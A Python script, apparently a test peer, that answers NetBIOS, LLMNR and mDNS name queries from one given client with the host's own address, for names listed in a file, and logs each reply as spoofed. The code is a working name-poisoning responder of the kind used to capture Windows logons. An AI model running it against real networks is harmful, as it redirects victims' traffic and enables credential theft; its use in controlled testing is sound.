#!/usr/bin/env python3
"""A host that answers name questions for computers it is not, as the tools
that capture Windows logons on a LAN do: a NetBIOS name query (UDP 137), an
LLMNR A query (5355) or an mDNS A query (5353, NAME.local) from the client for
any name listed in the names file (read on every packet, one name a line) gets
one sound answer naming this host's own address. Nothing else is answered.
"""
import argparse
import socket
import struct
import sys

sys.dont_write_bytecode = True  # the peers below are imported from the source tree
from llmnrpeer import RESPONSE, TYPE_A, header, read_question, record
from namepeer import listener, queries
from nbgarbage import NB, decode_name, sound_query_answer


def names(path):
    try:
        with open(path) as f:
            return {line.strip().lower() for line in f if line.strip()}
    except OSError:
        return set()


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--bind", required=True)
    ap.add_argument("--client", required=True)
    ap.add_argument("--names-file", required=True)
    args = ap.parse_args()

    netbios = listener(137, args.bind)
    llmnr = listener(5355, args.bind, "224.0.0.252")
    mdns = listener(5353, args.bind, "224.0.0.251")
    for sock, data, src, tid, _ in queries([netbios, llmnr, mdns], args.client):
        wanted = names(args.names_file)
        answer = None
        if sock is netbios:
            name = decode_name(data, 12) if len(data) >= 12 + 34 + 4 else None
            if name is None or struct.unpack(">H", data[46:48])[0] != NB:
                continue
            asked = name[:15].rstrip(b" ").decode("ascii", "replace")
            if asked.lower() in wanted:
                answer = sound_query_answer(tid, data[12:46], args.bind)
        else:
            q = read_question(data)
            if q is None or q[1] != TYPE_A:
                continue
            asked, _, _, question = q
            bare = asked.lower()[:-len(".local")] if sock is mdns and asked.lower().endswith(".local") else asked
            if bare.lower() in wanted and (sock is mdns) == (bare != asked):
                flags_out = RESPONSE | (0x0400 if sock is mdns else 0)
                answer = header(tid, flags_out) + question + record(TYPE_A, socket.inet_aton(args.bind))
        if answer is not None:
            sock.sendto(answer, src)
            print(f"spoofed {asked} on {sock.getsockname()[1]} for {src}", file=sys.stderr, flush=True)


if __name__ == "__main__":
    main()
